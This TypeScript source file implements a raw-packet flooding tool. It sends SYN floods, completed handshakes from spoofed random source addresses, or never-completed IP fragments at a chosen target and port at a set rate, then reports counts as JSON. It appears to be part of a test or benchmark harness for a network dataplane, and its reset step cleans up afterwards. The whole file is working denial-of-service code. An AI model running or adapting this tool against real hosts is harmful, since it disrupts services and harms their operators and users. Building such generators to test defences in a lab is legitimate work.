/**
 * `flood.js MODE TARGET PORT ROUTER_MAC SOURCES RATE SECONDS LIMIT`: an attack on TARGET:PORT, RATE frames a
 * second, LIMIT in all, from random addresses in the network SOURCES. Ends when the time is up or standard input
 * ends, and prints a FloodReport as JSON. The host's own TCP knows nothing of it.
 *
 * | mode      | what is sent                                                                  |
 * |-----------|-------------------------------------------------------------------------------|
 * | syn       | SYNs; nobody takes notice of the answers                                      |
 * | connect   | SYNs, and the third segment of the handshake for every answer; in the end RST |
 * | fragments | first fragments of packets that never become whole                            |
 */
import { setTimeout as pause } from 'node:timers/promises';
import { Burst } from '../../../dataplane/driver/driver.js';
import { loadByte } from '../../../dataplane/sys/bpf.js';
import { read16, read32 } from '../../../dataplane/wire/bytes.js';
import { ACK, RST, SYN } from '../../../dataplane/wire/tcp.js';
import { ipv4Bytes, macBytes } from '../../macro/programs/addresses.js';
import { openInterface, PORT } from '../../macro/programs/interface.js';
import { IP, TCP } from '../../macro/programs/segment.js';
import type { FloodReport } from '../flood.js';
import { FRAME_BYTES, Stamp } from './frames.js';

const SMALL_SLOTS = 4096;
const BATCH = 256;
const PAUSE_MS = 1;
/** What couldn't be sent in this time isn't made up for. */
const DEBT_MAX_MS = 100;
const FIRST_PORT = 1024;
const PORTS = 65_536 - FIRST_PORT;

const [mode, targetText, portText, routerText, sourcesText, rateText, secondsText, limitText] =
  process.argv.slice(2);
const [networkText, prefixText] = sourcesText.split('/');
const networkBytes = ipv4Bytes(networkText);
const network = read32(Uint8Array.from(networkBytes), 0);
const hostMask = 2 ** (32 - Number(prefixText)) - 1;
const rate = Number(rateText);
const limit = Number(limitText);

const { driver, mac } = openInterface(SMALL_SLOTS, {
  load: loadByte(IP + 16),
  // Answers are looked at in one mode only; no address begins with 0.
  value: mode === 'connect' ? networkBytes[0] : 0,
});
const receiver = {
  sourceMac: mac,
  destinationMac: macBytes(routerText),
  destination: read32(Uint8Array.from(ipv4Bytes(targetText)), 0),
  destinationPort: Number(portText),
};
const opening = new Stamp(receiver, SYN, mode === 'fragments');
const confirming = new Stamp(receiver, ACK);
const resetting = new Stamp(receiver, RST | ACK);
const burst = new Burst();
/** Of the handshakes completed: source, port, sequence, acknowledgment. */
const completed: number[] = [];
let sent = 0;
let extra = 0;

function random(limit: number): number {
  return Math.floor(Math.random() * limit);
}

function send(count: number): void {
  for (let i = 0; i < count; i++) {
    const source = network | random(hostMask + 1);
    opening.stamp(source, FIRST_PORT + random(PORTS), random(2 ** 32) | 0, 0, random(65_536));
    driver.sendCopy(opening.frame, 0, FRAME_BYTES, 0, PORT);
    if (i % BATCH === BATCH - 1) driver.flush();
  }
  driver.flush();
  sent += count;
}

/** The third step of the handshake for every second one that has come. */
function answer(): void {
  while (driver.receive(burst) > 0) {
    for (let i = 0; i < burst.count; i++) confirm(burst.offset[i] + IP, burst.offset[i] + TCP);
    driver.release(burst);
    driver.flush();
  }
}

function confirm(ip: number, tcp: number): void {
  const { memory } = driver;
  if (memory[tcp + 13] !== (SYN | ACK)) return;
  const acknowledgment = (read32(memory, tcp + 4) + 1) | 0;
  const source = read32(memory, ip + 16);
  const port = read16(memory, tcp + 2);
  const sequence = read32(memory, tcp + 8);
  confirming.stamp(source, port, sequence, acknowledgment, 0);
  driver.sendCopy(confirming.frame, 0, FRAME_BYTES, 0, PORT);
  completed.push(source, port, sequence, acknowledgment);
  extra += 1;
}

/** Nothing is to be left on the servers. */
async function reset(): Promise<void> {
  for (let i = 0; i < completed.length; i += 4) {
    const [source, port, sequence, acknowledgment] = completed.slice(i, i + 4);
    resetting.stamp(source, port, sequence, acknowledgment, 0);
    driver.sendCopy(resetting.frame, 0, FRAME_BYTES, 0, PORT);
    extra += 1;
    if (i % (4 * BATCH) !== 0) continue;
    driver.flush();
    await pause(PAUSE_MS);
  }
  driver.flush();
}

async function flood(seconds: number): Promise<FloodReport> {
  const over = new AbortController();
  process.stdin.resume().on('end', () => over.abort());
  const begin = performance.now();
  let paid = begin;
  while (!over.signal.aborted && paid < begin + seconds * 1000) {
    const now = performance.now();
    paid = Math.max(paid, now - DEBT_MAX_MS);
    const due = Math.min(Math.floor(((now - paid) * rate) / 1000), limit - sent);
    send(due);
    paid = sent < limit ? paid + (due * 1000) / rate : now;
    answer();
    await pause(PAUSE_MS);
  }
  const elapsed = performance.now() - begin;
  // For the answers that are still under way.
  if (mode === 'connect') await settle();
  const answered = completed.length / 4;
  await reset();
  const { sentFrames, backPressure, sendErrors } = driver.stats(PORT);
  return {
    sent: sentFrames - extra,
    answered,
    seconds: elapsed / 1000,
    unsent: sendErrors,
    backPressure,
  };
}

const SETTLE_ROUNDS = 100;

async function settle(): Promise<void> {
  for (let i = 0; i < SETTLE_ROUNDS; i++) {
    await pause(PAUSE_MS);
    answer();
  }
}

process.stdout.write('ready\n');
const report = await flood(Number(secondsText));
driver.close();
process.stdout.write(`${JSON.stringify(report)}\n`, () => process.exit(0));
